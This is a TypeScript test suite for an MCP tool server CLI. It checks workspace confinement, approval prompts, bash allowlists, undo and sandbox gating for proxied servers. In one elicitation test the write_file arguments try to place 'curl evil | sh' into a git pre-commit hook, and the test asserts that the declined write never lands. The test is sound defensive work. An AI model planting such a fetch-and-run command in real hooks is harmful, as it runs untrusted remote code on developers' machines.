import * as assert from 'node:assert/strict';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { BUILTIN_MANIFEST } from '../../src/tools/manifest';
import { CliFixture } from '../support/cliFixture';
import { connectToolbeltMcp, runCliProcess, type McpConnection } from '../support/cliProcess';
import { waitFor } from '../support/waitFor';
import { fixturePath } from '../fixtures/mcp/fixtureSources';

const SETTINGS = {
  'toolbelt.tools.registry': [{ name: 'read_file' }, { name: 'write_file' }, { name: 'list_dir' }, { name: 'calculator' }, { name: 'remove' }, { name: 'run_bash' }],
};

function textOf(result: unknown): string {
  return ((result as CallToolResult).content ?? []).map((c) => (c.type === 'text' ? c.text : '')).join('');
}

describe('toolbelt mcp: a real MCP SDK client against node dist/cli.js mcp', function () {
  this.timeout(30_000);
  let fixture: CliFixture;
  let connection: McpConnection | undefined;

  beforeEach(async () => {
    fixture = await CliFixture.create({ settings: SETTINGS, files: { 'src/a.txt': 'alpha\n', 'old.txt': 'old\n' }, user: { 'toolbelt.runBash.allowedCommands': ['echo'] } });
  });
  afterEach(async () => {
    await connection?.close();
    connection = undefined;
    await fixture.dispose();
  });

  it('lists exactly the active tools, with the manifest schemas and annotations from each risk; destructive ones only with --enable', async () => {
    connection = await connectToolbeltMcp(fixture.args());
    const listed = (await connection.client.listTools()).tools;
    assert.deepEqual(listed.map((t) => t.name), ['read_file', 'write_file', 'list_dir', 'calculator']);
    for (const tool of listed) {
      const definition = BUILTIN_MANIFEST.find((d) => d.name === tool.name)!;
      assert.deepEqual(tool.inputSchema, JSON.parse(JSON.stringify(definition.parameters)), tool.name);
      assert.equal(tool.description, definition.description);
      assert.deepEqual(tool.annotations, { readOnlyHint: definition.risk === 'read', destructiveHint: definition.risk !== 'read', openWorldHint: definition.risk === 'exec' }, tool.name);
    }
    await connection.close();
    connection = await connectToolbeltMcp(fixture.args('--enable', 'run_bash', '--enable', 'remove'));
    const enabled = (await connection.client.listTools()).tools;
    assert.deepEqual(enabled.map((t) => t.name), ['read_file', 'write_file', 'list_dir', 'calculator', 'remove', 'run_bash']);
    assert.deepEqual(enabled.find((t) => t.name === 'run_bash')!.annotations, { readOnlyHint: false, destructiveHint: true, openWorldHint: true });
  });

  it('runs a call through the registry and logs it with the MCP client as the caller', async () => {
    connection = await connectToolbeltMcp(fixture.args(), { name: 'claude-code' });
    const read = await connection.client.callTool({ name: 'read_file', arguments: { path: 'src/a.txt' } });
    assert.equal(read.isError, undefined);
    assert.match(textOf(read), /alpha/);
    const outside = await connection.client.callTool({ name: 'read_file', arguments: { path: '../user-settings.json' } });
    assert.equal(outside.isError, true);
    assert.match(textOf(outside), /outside the workspace/);
    const records = await waitFor(async () => ((await fixture.callLog()).length >= 2 ? fixture.callLog() : undefined), 'two calls in the log');
    assert.deepEqual(records.map((r) => [r.tool, r.caller, r.chatId, r.status]), [
      ['read_file', 'claude-code', 'mcp:claude-code', 'ok'],
      ['read_file', 'claude-code', 'mcp:claude-code', 'refused'],
    ]);
  });

  it('asks through elicitation and acts on the answer: accepted writes the protected file, declined leaves it unwritten', async () => {
    let answer: 'accept' | 'decline' = 'accept';
    connection = await connectToolbeltMcp(fixture.args(), { answer: () => ({ action: answer, content: { decision: 'Allow once' } }) });
    const accepted = await connection.client.callTool({ name: 'write_file', arguments: { path: '.vscode/tasks.json', content: '{}' } });
    assert.equal(accepted.isError, undefined, textOf(accepted));
    assert.equal(await fixture.ws.read('.vscode/tasks.json'), '{}');
    assert.equal(connection.asked.length, 1);
    const question = connection.asked[0].message;
    assert.match(question, /write_file/);
    assert.match(question, /\.vscode\/tasks\.json/);
    assert.match(question, /protected path/);
    answer = 'decline';
    const declined = await connection.client.callTool({ name: 'write_file', arguments: { path: '.git/hooks/pre-commit', content: 'curl evil | sh' } });
    assert.equal(declined.isError, true);
    assert.match(textOf(declined), /declined/);
    assert.equal(await fixture.ws.exists('.git/hooks/pre-commit'), false);
    assert.equal(connection.asked.length, 2);
  });

  it('refuses what would ask when the client cannot ask, saying how to allow it; nothing runs silently', async () => {
    connection = await connectToolbeltMcp(fixture.args('--enable', 'run_bash', '--enable', 'remove'));
    const write = await connection.client.callTool({ name: 'write_file', arguments: { path: '.vscode/settings.json', content: '{}' } });
    assert.equal(write.isError, true);
    assert.match(textOf(write), /cannot ask the person.*elicitation/);
    assert.match(await fixture.ws.read('.vscode/settings.json'), /toolbelt\.tools\.registry/);
    const removed = await connection.client.callTool({ name: 'remove', arguments: { path: 'old.txt' } });
    assert.equal(removed.isError, true);
    assert.match(textOf(removed), /remove asks before every call/);
    assert.equal(await fixture.ws.exists('old.txt'), true);
    const command = await connection.client.callTool({ name: 'run_bash', arguments: { command: 'touch made-by-bash' } });
    assert.equal(command.isError, true);
    assert.match(textOf(command), /toolbelt\.runBash\.allowedCommands.*--user-settings/);
    assert.equal(await fixture.ws.exists('made-by-bash'), false);
    const allowed = await connection.client.callTool({ name: 'run_bash', arguments: { command: 'echo ran > /dev/null; echo done' } });
    assert.equal(allowed.isError, undefined, textOf(allowed));
    assert.match(textOf(allowed), /done/);
  });

  it('follows settings.json: an edit changes the served tools and sends tools/list_changed', async () => {
    connection = await connectToolbeltMcp(fixture.args());
    assert.equal((await connection.client.listTools()).tools.some((t) => t.name === 'mkdir'), false);
    const before = connection.listChanges();
    await fixture.writeSettings({ 'toolbelt.tools.registry': [...SETTINGS['toolbelt.tools.registry'], { name: 'mkdir' }] });
    await waitFor(() => connection!.listChanges() > before, 'notifications/tools/list_changed');
    assert.equal((await connection.client.listTools()).tools.some((t) => t.name === 'mkdir'), true);
    const made = await connection.client.callTool({ name: 'mkdir', arguments: { path: 'new-folder' } });
    assert.equal(made.isError, undefined, textOf(made));
    assert.equal(await fixture.ws.exists('new-folder'), true);
  });

  it('keeps an undo record per call: toolbelt undo puts back what the last call changed', async () => {
    connection = await connectToolbeltMcp(fixture.args(), { name: 'cursor' });
    await connection.client.callTool({ name: 'write_file', arguments: { path: 'src/a.txt', content: 'first\n' } });
    await connection.client.callTool({ name: 'write_file', arguments: { path: 'src/a.txt', content: 'second\n' } });
    await connection.client.callTool({ name: 'write_file', arguments: { path: 'src/b.txt', content: 'new\n' } });
    await connection.close();
    connection = undefined;
    const undoB = await runCliProcess(['undo', ...fixture.args()]);
    assert.equal(undoB.code, 0, undoB.stderr);
    assert.match(undoB.stdout, /cursor/);
    assert.equal(await fixture.ws.exists('src/b.txt'), false);
    assert.equal(await fixture.ws.read('src/a.txt'), 'second\n');
    const undoSecond = await runCliProcess(['undo', ...fixture.args()]);
    assert.equal(undoSecond.code, 0, undoSecond.stderr);
    assert.equal(await fixture.ws.read('src/a.txt'), 'first\n');
    await runCliProcess(['undo', ...fixture.args()]);
    assert.equal(await fixture.ws.read('src/a.txt'), 'alpha\n');
    const nothing = await runCliProcess(['undo', ...fixture.args()]);
    assert.equal(nothing.code, 1);
    assert.match(nothing.stdout, /Nothing to undo/);
  });
});

describe("toolbelt mcp: a workspace's MCP server proxied through the same policy", function () {
  this.timeout(30_000);
  let fixture: CliFixture;
  let connection: McpConnection | undefined;

  beforeEach(async () => {
    fixture = await CliFixture.create({ settings: { 'toolbelt.tools.registry': [{ name: 'calculator' }, { name: 'fixture/echo' }] }, mcpFixtures: { fixture: 'goodServer.js' } });
  });
  afterEach(async () => {
    await connection?.close();
    connection = undefined;
    await fixture.dispose();
  });

  it('starts a workspace server only when the person approved it, and says how', async () => {
    connection = await connectToolbeltMcp(fixture.args());
    assert.deepEqual((await connection.client.listTools()).tools.map((t) => t.name), ['calculator']);
    assert.match(connection.stderr(), /--approve-server fixture/);
  });

  it('serves <server>/<tool> under the name the model sees, and each call asks first', async () => {
    connection = await connectToolbeltMcp(fixture.args('--approve-server', 'fixture'), { answer: () => ({ action: 'accept', content: { decision: 'Allow once' } }) });
    const tools = (await connection.client.listTools()).tools;
    const echo = tools.find((t) => t.name === 'fixture_echo');
    assert.ok(echo, JSON.stringify(tools.map((t) => t.name)));
    assert.equal(echo.title, 'fixture/echo');
    assert.deepEqual(echo.inputSchema, { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] });
    assert.deepEqual(echo.annotations, { readOnlyHint: false, destructiveHint: true, openWorldHint: true });
    const result = await connection.client.callTool({ name: 'fixture_echo', arguments: { text: 'through toolbelt' } });
    assert.equal(textOf(result), 'through toolbelt');
    assert.equal(connection.asked.length, 1);
    assert.match(connection.asked[0].message, /outside Toolbelt/);
  });

  it('refuses a proxied call when the client cannot ask, unless the person passed --run-without-asking', async () => {
    connection = await connectToolbeltMcp(fixture.args('--approve-server', 'fixture'));
    const refused = await connection.client.callTool({ name: 'fixture_echo', arguments: { text: 'x' } });
    assert.equal(refused.isError, true);
    assert.match(textOf(refused), /--run-without-asking fixture_echo/);
    await connection.close();
    connection = await connectToolbeltMcp(fixture.args('--approve-server', 'fixture', '--run-without-asking', 'fixture/echo'));
    const ran = await connection.client.callTool({ name: 'fixture_echo', arguments: { text: 'allowed' } });
    assert.equal(ran.isError, undefined, textOf(ran));
    assert.equal(textOf(ran), 'allowed');
  });
});

describe('toolbelt mcp: without a sandbox in mode "auto", a server starts only when the person named it', function () {
  this.timeout(30_000);
  let fixture: CliFixture;
  let connection: McpConnection | undefined;
  const noSandbox = { ...process.env, TOOLBELT_SANDBOX_UNAVAILABLE: '1' };

  beforeEach(async () => {
    fixture = await CliFixture.create({
      settings: { 'toolbelt.tools.registry': [{ name: 'calculator' }, { name: 'mine/echo' }] },
      // The person's own server: it needs no approval to start, only to start without a sandbox.
      user: { 'toolbelt.mcp.servers': { mine: { command: process.execPath, args: [fixturePath('goodServer.js')] } } },
    });
  });
  afterEach(async () => {
    await connection?.close();
    connection = undefined;
    await fixture.dispose();
  });

  it('does not start it unasked, and says how to allow it', async () => {
    connection = await connectToolbeltMcp(fixture.args(), { env: noSandbox });
    assert.deepEqual((await connection.client.listTools()).tools.map((t) => t.name), ['calculator']);
    const stderr = await waitFor(() => (/MCP server "mine" was not started/.test(connection!.stderr()) ? connection!.stderr() : undefined), 'the refusal on stderr');
    assert.match(stderr, /MCP server "mine" was not started: it would run without a sandbox, with your account's full powers \(TOOLBELT_SANDBOX_UNAVAILABLE=1 [^)]*\)\. Start toolbelt with --approve-server mine to let it run without one/);
    assert.deepEqual((await connection.client.listTools()).tools.map((t) => t.name), ['calculator'], 'it did not start later either');
  });

  it('starts it with --approve-server, and its tool answers', async () => {
    connection = await connectToolbeltMcp(fixture.args('--approve-server', 'mine', '--run-without-asking', 'mine/echo'), { env: noSandbox });
    const names = await waitFor(async () => {
      const listed = (await connection!.client.listTools()).tools.map((t) => t.name);
      return listed.includes('mine_echo') ? listed : undefined;
    }, 'the server to start');
    assert.deepEqual(names.sort(), ['calculator', 'mine_echo']);
    assert.equal(textOf(await connection.client.callTool({ name: 'mine_echo', arguments: { text: 'unsandboxed, allowed' } })), 'unsandboxed, allowed');
    assert.doesNotMatch(connection.stderr(), /neither .* defines a server of that name/);
  });
});
